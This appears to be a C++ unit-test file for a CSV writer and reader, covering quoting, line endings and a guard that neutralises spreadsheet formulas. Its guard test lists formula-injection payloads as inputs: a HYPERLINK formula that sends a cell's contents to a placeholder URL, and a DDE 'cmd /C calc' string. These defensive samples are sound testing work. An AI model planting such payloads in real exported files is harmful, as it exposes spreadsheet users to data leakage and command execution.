#include "files/csvfields.h"

#include "testsupport.h"

#include <gtest/gtest.h>

using namespace norvel;

namespace {

struct CsvCase {
    std::string name;
    QStringList fields;
    QByteArray line; // as written, CR LF included
};

class CsvFieldsTest : public testing::TestWithParam<CsvCase> { };

// What is written reads back as the same fields, and is quoted only where a spreadsheet needs it.
TEST_P(CsvFieldsTest, WritesThenReadsTheSameFields)
{
    const CsvCase& c = GetParam();
    const QByteArray line = csvLine(c.fields);
    EXPECT_EQ(line, c.line);
    EXPECT_EQ(csvFields(QString::fromUtf8(line.chopped(2))), c.fields);
}

INSTANTIATE_TEST_SUITE_P(Lines, CsvFieldsTest,
    testing::Values(CsvCase { "plain", { "7", "0.35", "" }, "7,0.35,\r\n" },
        CsvCase { "comma", { "A,1", "x" }, "\"A,1\",x\r\n" }, CsvCase { "quote_doubled", { "a\"b" }, "\"a\"\"b\"\r\n" },
        CsvCase { "line_breaks", { "1\r\n2", "3\n" }, "\"1\r\n2\",\"3\n\"\r\n" },
        CsvCase { "kana", { "調査柱No", "要注意" }, QStringLiteral("調査柱No,要注意\r\n").toUtf8() }),
    caseName<CsvCase>);

// A spreadsheet shows a formula's text instead of working it out, and the program reads back what was given.
TEST(CsvFields, GuardsFormulasAndReadsBackExactly)
{
    const QString rows[][2] = { { "=HYPERLINK(\"http://x/\"&A1,\"見る\")", "'=HYPERLINK(\"http://x/\"&A1,\"見る\")" },
        { "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0" }, { "@SUM(1+1)", "'@SUM(1+1)" }, { "-2+3", "'-2+3" },
        { "\t=1", "'\t=1" }, { "\r=1", "'\r=1" }, { "-", "'-" }, { "'=1", "''=1" }, { "-5", "-5" },
        { "+0.02", "+0.02" }, { "'-5", "'-5" }, { "'abc", "'abc" }, { "", "" } };
    for (const auto& [text, cell] : rows) {
        EXPECT_EQ(spreadsheetSafe(text), cell);
        EXPECT_EQ(fromSpreadsheetSafe(cell), text);
    }
}

// Lines end at LF, CR LF or a CR alone; a CR in quotes is the field's, unless the quote is never closed.
TEST(CsvFields, SplitsLinesAtEveryLineEndOutsideQuotes)
{
    const std::pair<QByteArray, QList<QByteArray>> rows[] = { { "a\rb\r", { "a", "b", "" } },
        { "a\r\nb\nc", { "a", "b", "c" } }, { "\"x\ry\",z\rw", { "\"x\ry\",z", "w" } },
        { "a\rb\"c\rd\r", { "a", "b\"c", "d", "" } }, { "\"a\nb\"\rc", { "\"a", "b\"", "c" } } };
    for (const auto& [content, lines] : rows)
        EXPECT_EQ(csvByteLines(content), lines) << content.toStdString();
}

// A quote inside an unquoted field starts a quoted part, as spreadsheet programs read it.
TEST(CsvFields, QuoteInsideAFieldQuotesWhatFollows)
{
    EXPECT_EQ(csvFields(u"a\"b,c\"d,e"), QStringList({ "ab,cd", "e" }));
    EXPECT_EQ(csvFields(u""), QStringList({ "" }));
    EXPECT_EQ(quotedCsvField("a\"b"), "\"a\"\"b\"");
    EXPECT_EQ(quotedCsvField(""), "\"\"");
}

} // namespace
